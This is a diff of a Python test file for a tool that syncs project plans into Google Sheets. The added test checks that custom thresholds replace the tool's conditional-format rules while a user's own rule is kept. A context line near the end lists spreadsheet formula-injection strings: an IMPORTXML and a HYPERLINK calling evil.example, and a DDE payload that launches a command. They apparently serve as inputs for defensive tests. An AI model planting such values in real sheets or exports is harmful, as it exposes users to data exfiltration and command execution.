@@ -98,6 +98,32 @@ def test_the_buyers_own_note_is_kept_when_the_product_adds_and_removes_its_block
     assert plan_tab["notes"][f"1,{owner_col - 1}"] == "Dana: ask Priya who in IT"
 
 
+def test_changed_thresholds_replace_the_products_colour_rules_and_keep_the_buyers(google_store, emulator):
+    """Rules written with other windows are still recognised as the product's: replaced, never
+    kept beside the new ones; a buyer's own rule stays."""
+    from map_workspace.domain.rules import Thresholds
+    from map_workspace.sync import Settings
+
+    store = google_store()
+    ref, _ = create(store, share=())
+    sheet = plan_sheet(emulator, ref.id)
+    buyers_rule = {"ranges": [{"sheetId": sheet.sheet_id, "startRowIndex": 1, "endRowIndex": 50}],
+                   "booleanRule": {"condition": {"type": "CUSTOM_FORMULA",
+                                                 "values": [{"userEnteredValue": "=$B2=\"Milestone\""}]},
+                                   "format": {"textFormat": {"bold": True}}}}
+    sheet.conditional_formats.append(buyers_rule)
+    product = len(sheet.conditional_formats) - 1
+    custom = Settings(thresholds=Thresholds(stalled_after_days=10, due_soon_days=5))
+    read = store.read(ref)
+    store.apply(ref, read, plan_sync(read, TODAY, now=NOW, settings=custom).changes)
+    rules = plan_sheet(emulator, ref.id).conditional_formats
+    formulas = [r["booleanRule"]["condition"]["values"][0]["userEnteredValue"] for r in rules]
+    assert len(rules) == product + 1 and formulas.count("=$B2=\"Milestone\"") == 1
+    assert sum(">=10)" in f for f in formulas) == 1 and sum("<=5)" in f for f in formulas) == 1
+    assert not any(">=7)" in f or "<=3)" in f for f in formulas)
+    assert plan_sync(store.read(ref), TODAY, now=NOW, settings=custom).changes.is_empty
+
+
 FORMULA_LOOKING = ('=IMPORTXML("http://evil.example/x","//a")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
                    "-2+3", '=HYPERLINK("http://evil.example","click")')
 
